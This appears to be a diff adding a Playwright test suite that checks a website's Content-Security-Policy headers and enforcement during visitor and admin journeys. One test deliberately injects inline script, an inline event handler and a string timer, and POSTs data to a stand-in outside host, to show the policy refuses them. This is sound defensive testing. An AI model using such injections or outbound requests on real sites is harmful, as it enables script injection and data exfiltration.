@@ -1,0 +1,178 @@
+import type { Page } from '@playwright/test';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+
+import { headersForPath, parseHeadersFile } from '../scripts/static-headers';
+import { expect, test, uniqueToken } from './support/backend-fixtures';
+
+/**
+ * The site under its own headers: the e2e server sends the build's `_headers` (the CSP for this
+ * build's Supabase URL), and these tests prove the browser enforces that policy, that every page
+ * carries it, and that whole visitor and admin journeys cause no violation of it.
+ */
+
+const buildHeaders = parseHeadersFile(
+  readFileSync(join(process.env.BUILD_DIR ?? 'dist', '_headers'), 'utf8'),
+);
+const ANALYTICS_ORIGIN = 'https://analytics.kestrel-e2e.invalid';
+
+type Violation = { page: string; directive: string; blocked: string };
+
+/**
+ * Every CSP violation any document of the page reports, from before its first script runs. The
+ * list lives in the test, not the page, so a navigation does not wipe what came before it.
+ */
+async function recordViolations(page: Page): Promise<Violation[]> {
+  const violations: Violation[] = [];
+  await page.exposeFunction('__reportCspViolation', (violation: Violation) => {
+    violations.push(violation);
+  });
+  await page.addInitScript(() => {
+    const report = (window as unknown as { __reportCspViolation: (v: Violation) => void })
+      .__reportCspViolation;
+    document.addEventListener('securitypolicyviolation', (event) => {
+      report({
+        page: location.pathname,
+        directive: event.effectiveDirective,
+        blocked: event.blockedURI,
+      });
+    });
+  });
+  return violations;
+}
+
+test("every page is served with the build's Content-Security-Policy and security headers", async ({
+  request,
+}) => {
+  const expected = headersForPath(buildHeaders, '/');
+  const csp = expected.get('Content-Security-Policy') ?? '';
+  const scriptSrc = csp
+    .split(';')
+    .map((directive) => directive.trim())
+    .find((directive) => directive.startsWith('script-src'));
+  expect(scriptSrc).toMatch(/^script-src 'self' 'sha256-[\w+/=]+'/);
+  expect(scriptSrc).not.toContain("'unsafe-");
+  expect(csp).toContain('connect-src');
+  for (const path of ['/', '/services', '/service/data-strategy', '/articles', '/auth', '/admin']) {
+    const response = await request.get(path);
+    expect(response.status(), path).toBe(200);
+    for (const [name, value] of expected) {
+      expect(response.headers()[name.toLowerCase()], `${name} on ${path}`).toBe(value);
+    }
+  }
+  const missing = await request.get('/no-such-page');
+  expect(missing.status()).toBe(404);
+  expect(missing.headers()['content-security-policy']).toBe(csp);
+});
+
+test('the policy is enforced: injected inline script, inline handlers, string eval and requests to another origin are refused', async ({
+  page,
+  allowConsole,
+}) => {
+  allowConsole(/Content Security Policy/);
+  const violations = await recordViolations(page);
+  await page.goto('/');
+
+  // The attempts start from DevTools, which is itself exempt from the page's policy, so each one
+  // hands the code to the page: a script element, an event handler attribute, a string timer.
+  const ran = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__scriptRan = true;';
+    document.head.append(script);
+    const button = document.createElement('button');
+    button.setAttribute('onclick', 'window.__handlerRan = true;');
+    document.body.append(button);
+    button.click();
+    button.remove();
+    // A string timer is evaluated as code: 'unsafe-eval' territory.
+    (setTimeout as (code: string, ms: number) => number)('window.__timerRan = true;', 0);
+    // Refused by connect-src before any request is made (there is no network here anyway: the
+    // violation report below is what shows the policy at work).
+    await fetch('https://elsewhere.example/collect', { method: 'POST', body: 'x' }).catch(() => {});
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return ['__scriptRan', '__handlerRan', '__timerRan'].filter((flag) => flag in window);
+  });
+  expect(ran).toEqual([]);
+  await expect
+    .poll(() => violations.map((violation) => violation.directive).sort())
+    .toEqual(['connect-src', 'script-src', 'script-src-attr', 'script-src-elem']);
+  expect(violations.find((v) => v.directive === 'connect-src')?.blocked).toBe(
+    'https://elsewhere.example/collect',
+  );
+});
+
+test.describe('no violation in whole journeys', () => {
+  test.use({ consent: 'none' });
+
+  test('a visitor consents, browses every kind of page and sends an enquiry; an admin signs in, reads it and signs out', async ({
+    page,
+    backend,
+    allowConsole,
+  }) => {
+    test.setTimeout(90_000);
+    allowConsole(/404 Error: User attempted to access non-existent route: \/no-such-page/);
+    const violations = await recordViolations(page);
+    // The consent-gated analytics script this build names (build:e2e); CSP admits its origin.
+    await page.route(`${ANALYTICS_ORIGIN}/**`, (route) =>
+      route.fulfill({ contentType: 'text/javascript', body: 'window.__analyticsRan = true;' }),
+    );
+
+    await page.goto('/');
+    const banner = page.getByRole('region', { name: 'We use cookies to enhance your experience' });
+    await banner.getByRole('button', { name: 'Accept All' }).click();
+    await expect
+      .poll(() => page.evaluate(() => '__analyticsRan' in window), { timeout: 5_000 })
+      .toBe(true);
+
+    const company = uniqueToken('Cspco');
+    const email = `${uniqueToken('csp')}@example.com`;
+    backend.trackEnquiryEmail(email);
+    const form = page.getByRole('form', { name: 'Enquiry form' });
+    const formCode = page.waitForResponse(/\/assets\/contact-form-[^/]*\.js$/);
+    await form.scrollIntoViewIfNeeded();
+    await formCode;
+    await page.waitForLoadState('networkidle');
+    await form.getByLabel(/Full Name/).fill('Content Policy');
+    await form.getByLabel(/Email Address/).fill(email);
+    await form.getByLabel(/Company\/Organisation/).fill(company);
+    await form.getByLabel(/Service Interest/).selectOption({ label: 'Data Strategy' });
+    await form.getByLabel(/Project Timeline/).selectOption({ label: 'Just exploring' });
+    await form.getByLabel(/Message\/Requirements/).fill('Sent under the site’s own CSP.');
+    await form.getByRole('button', { name: 'Submit Form' }).click();
+    const toasts = page.getByRole('region', { name: /Notifications/ });
+    await expect(toasts.getByText('Thank you for your inquiry!')).toBeVisible({ timeout: 15_000 });
+
+    for (const path of [
+      '/services',
+      '/service/agentic-ai',
+      '/about',
+      '/case-studies',
+      '/whitepapers',
+      '/articles',
+      '/privacy-policy',
+      '/cookie-policy',
+      '/modern-slavery',
+      '/carbon-reduction-plan',
+      '/no-such-page',
+    ]) {
+      await page.goto(path);
+    }
+
+    const admin = await backend.createAdmin();
+    await page.goto('/auth');
+    await page.getByRole('tab', { name: 'Sign In' }).click();
+    const signIn = page.getByRole('form', { name: 'Sign in' });
+    await signIn.getByLabel(/Email/).fill(admin.email);
+    await signIn.getByLabel(/Password/).fill(admin.password);
+    await signIn.getByRole('button', { name: 'Sign In' }).click();
+    await expect(page).toHaveURL(/\/admin$/, { timeout: 15_000 });
+    await page.getByLabel('Search').fill(company);
+    await expect(page.getByRole('table').getByRole('row').filter({ hasText: company })).toHaveCount(
+      1,
+    );
+    await page.getByRole('button', { name: 'Sign Out' }).click();
+    await expect(page).toHaveURL(/\/auth$/);
+
+    expect(violations).toEqual([]);
+  });
+});
